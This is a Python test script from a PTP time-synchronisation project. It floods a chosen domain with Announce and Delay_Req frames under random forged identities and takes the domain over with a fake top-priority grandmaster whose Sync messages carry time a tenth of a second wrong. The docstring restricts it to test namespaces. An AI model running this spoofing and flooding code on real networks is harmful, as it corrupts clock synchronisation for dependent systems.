"""``python -m tests.interop.intruder DOMAIN RATE SECONDS``: floods one domain and takes it over.

Announces and Delay_Reqs under invented identities, RATE frames/s, and among them a master of priority1 0 whose Syncs
are a tenth of a second wrong. UDP/IPv4 multicast; for namespaces of tests only.
"""

from __future__ import annotations

import os
import socket
import sys
import time

from ptpstack.wire.codec import encode
from ptpstack.wire.messages import Announce, DelayReq, Sync
from ptpstack.wire.types import ClockQuality, Flag, PortIdentity

GROUP = "224.0.1.129"
WRONG_NS = 100_000_000
TAI_MINUS_UTC_NS = 37_000_000_000
#: the usurper's identity
USURPER = PortIdentity(bytes.fromhex("02bad0fffe000001"), 1)
BEST = ClockQuality(6, 0x20, 0x4B32)


def main(domain: int, rate: float, seconds: float) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        begun = time.monotonic()
        number = 0
        while (elapsed := time.monotonic() - begun) < seconds:
            number += 1
            stranger = PortIdentity(b"\x02" + os.urandom(7), 1)
            if number % 2:
                hostile = Announce(stranger, number & 0xFFFF, domain=domain, priority1=0, grandmaster=stranger[0])
                sock.sendto(encode(hostile), (GROUP, 320))
            else:
                sock.sendto(encode(DelayReq(stranger, number & 0xFFFF, domain=domain, control=1)), (GROUP, 319))
            if number % max(1, int(rate / 8)) == 0:
                flags = Flag.PTP_TIMESCALE
                announce = Announce(
                    USURPER,
                    number & 0xFFFF,
                    domain=domain,
                    flags=flags,
                    priority1=0,
                    grandmaster=USURPER[0],
                    quality=BEST,
                )
                # twice in a row: between two turns the strangers would push it out of the list of foreign masters
                sock.sendto(encode(announce), (GROUP, 320))
                sock.sendto(encode(announce), (GROUP, 320))
                wrong = time.time_ns() + TAI_MINUS_UTC_NS + WRONG_NS
                sync = Sync(USURPER, number & 0xFFFF, domain=domain, control=0, log_interval=-3, origin_ns=wrong)
                sock.sendto(encode(sync), (GROUP, 319))
            time.sleep(max(0.0, number / rate - elapsed))


if __name__ == "__main__":
    main(int(sys.argv[1]), float(sys.argv[2]), float(sys.argv[3]))
